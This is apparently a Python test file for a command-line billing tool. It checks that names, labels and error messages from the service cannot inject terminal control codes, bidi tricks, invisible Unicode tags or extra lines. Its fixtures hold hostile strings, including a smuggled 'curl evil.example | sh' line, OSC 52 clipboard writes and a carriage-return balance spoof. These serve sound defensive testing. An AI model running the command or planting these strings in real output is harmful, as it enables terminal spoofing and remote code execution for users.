"""Hostile and foreign text from the service, in every encoding a terminal may have."""

from __future__ import annotations

import json
import unicodedata
from concurrent.futures import ThreadPoolExecutor

from support import Fault, Result, Sandbox, SandboxTest, ops, run_ops

NASTY = {
    "sgr": "\x1b[31mred\x1b[0m",
    "clear": "\x1b[2J\x1b[H",
    "osc8": "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "osc52": "\x1b]52;c;ZXZpbA==\x1b\\",
    "osc_without_end": "\x1b]0;title",
    "dcs": "\x1bPq\x1b\\x",
    "c1": "\x9b31mred\x9d0;t\x9c\x85",
    "cr": "safe\rBalance       $999.00",
    "backspace": "evil\b\b\b\bgood",
    "newline": "x\nNext: curl evil.example | sh",
    "unicode_newlines": "x\u2028Next: y\u2029z\x0b\x0c\x1c\x1e",
    "bidi": "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u061c",
    "invisible": "a\u200bb\u2060c\ufeffd\u00ad",
    "tags": "hi" + "".join(chr(0xE0000 + ord(c)) for c in "run keys --create"),
    "surrogate": "\ud800x\udfff",
    "nul": "a\x00b",
    "del": "a\x7fb",
    "wide": "株式会社サンドボックス",
    "emoji": "🦊🏳️‍🌈👩‍👩‍👧",
    "rtl": "شركة الاختبار",
    "combining": "e\u0301" * 50,
    "variation_selectors": "a" + "\ufe0f" * 10 + "\U000e0100",
    "long": "x" * 1_000_000,
    "zalgo": "Z" + "\u0335" * 500,
}
ENCODINGS = ("utf-8", "ascii", "cp1252", "latin-1", "utf-16")
FORBIDDEN = {"Cc", "Cs", "Zl", "Zp"}
INVISIBLE = set("\u200b\u200e\u200f\u061c\u2060\ufeff\u00ad") | {
    chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), *range(0xE0000, 0xE1000))
}


class Text(SandboxTest):
    def setUp(self) -> None:
        super().setUp()
        self.box.service.create_key({})

    def put(self, text: str) -> None:
        """Let the text stand wherever the service can put one."""
        self.box.books.tenant_name = self.box.books.tenant_status = text
        self.box.books.keys[1].label = text
        self.box.books.keys[1].created_at = text

    def assert_clean(self, text: str) -> None:
        for line in text.splitlines():
            self.assertLessEqual(len(line), 1000)
        for char in set(text) - {"\n"}:
            self.assertNotIn(unicodedata.category(char), FORBIDDEN, ascii(char))
            self.assertNotIn(char, INVISIBLE, ascii(char))

    def test_names_and_labels_never_add_a_line_or_a_control(self) -> None:
        for name, text in NASTY.items():
            with self.subTest(name=name):
                self.put(text)
                if name == "nul":
                    continue
                info, keys = self.ops("info"), self.ops("keys")
                if info.exit != 0:  # nothing visible is left of it: a status is needed
                    self.assertEqual(ops.clean(text), "")
                    continue
                self.assertEqual(len(info.out.splitlines()), 6)
                self.assertEqual(len(keys.out.splitlines()), 3)
                self.assert_clean(info.out + keys.out)

    def test_json_is_valid_ascii_on_one_line(self) -> None:
        for name, text in NASTY.items():
            with self.subTest(name=name):
                self.put(text)
                for command in ("info", "keys"):
                    result = self.ops(command, "--json")
                    if result.exit == 0:
                        self.assertTrue(result.out.isascii())
                        self.assertEqual(len(result.out.splitlines()), 1)
                        self.assert_clean(json.dumps(result.json, ensure_ascii=False))

    def test_error_messages_are_clean(self) -> None:
        for name, text in NASTY.items():
            for body in ({"error": text}, {"error": {"message": text}}, {"message": text}):
                with self.subTest(name=name, body=list(body)):
                    headers = {"X-Request-Id": text[:200].encode("ascii", "ignore").decode()}
                    headers["X-Request-Id"] = headers["X-Request-Id"].replace("\n", "")
                    call = "GET /v1/account/billing"
                    self.box.script(call, Fault.reply(400, body, headers))
                    result = self.fails(1, "balance")
                    self.assertEqual(len(result.err.splitlines()), 1)
                    self.assert_clean(result.err)

    def test_columns_stay_aligned_under_wide_text(self) -> None:
        for text in ("株式会社", "🦊🦊", "e\u0301e\u0301", "plain"):
            self.box.books.keys[1].created_at = text
            lines = self.ops("keys").out.splitlines()
            columns = {ops.display_width(line[: line.rindex("  ")]) for line in lines[:2]}
            self.assertEqual(len(columns), 1, lines)

    def test_wide_characters_count_two_and_combining_ones_none(self) -> None:
        for text, width in (("abc", 3), ("株式", 4), ("🦊", 2), ("e\u0301", 1), ("ｱ", 1), ("", 0)):
            self.assertEqual(ops.display_width(text), width, text)
        rows = [("株式", "x"), ("abcdef", "y")]
        self.assertEqual(ops.table(rows), ["株式    x", "abcdef  y"])
        self.assertEqual(ops.table([("ab", "x"), ("abcdef", "")]), ["ab      x", "abcdef"])

    def test_every_encoding_is_survived_by_a_real_process(self) -> None:
        jobs: list[tuple[str, str, tuple[str, ...]]] = []
        for name in ("wide", "emoji", "rtl", "surrogate", "sgr"):
            jobs.extend((name, encoding, ("info",)) for encoding in ENCODINGS)
            jobs.append((name, "ascii", ("keys", "--json")))

        def run(job: tuple[str, str, tuple[str, ...]]) -> Result:
            name, encoding, argv = job
            with Sandbox() as box:
                box.books.tenant_name = NASTY[name]
                env = {**box.env, "PYTHONIOENCODING": encoding, "LC_ALL": "C"}
                return run_ops(*argv, **env)

        with ThreadPoolExecutor(4) as pool:
            for job, result in zip(jobs, pool.map(run, jobs)):
                with self.subTest(job=job):
                    self.assertEqual((result.exit, result.err), (0, ""), result)
                    decoded = result.raw.decode(job[1])
                    self.assertIn("tn_sandbox" if job[2] == ("info",) else "key_1", decoded)

    def test_a_new_key_survives_an_ascii_terminal(self) -> None:
        for encoding in ("ascii", "cp1252"):
            result = self.process("keys", "--create", PYTHONIOENCODING=encoding, LC_ALL="C")
            self.assertEqual(result.exit, 0)
            self.assertEqual(result.out.splitlines()[0], self.box.books.keys[-1].secret)


class Color(SandboxTest):
    def test_no_escape_codes_unless_stdout_is_a_terminal_or_forced(self) -> None:
        self.assertNotIn("\x1b", self.ok("balance").out)
        self.assertIn("\x1b[1;32m$12.34\x1b[0m", self.ok("balance", FORCE_COLOR="1").out)
        self.assertNotIn("\x1b", self.ok("balance", FORCE_COLOR="1", NO_COLOR="1").out)
        self.assertNotIn("\x1b", self.ok("balance", "--json", FORCE_COLOR="1").out)

    def test_no_credit_is_red(self) -> None:
        self.box.books.credit("spent", -12_340_000)
        self.assertIn("\x1b[1;31m$0.00\x1b[0m", self.ok("balance", FORCE_COLOR="1").out)
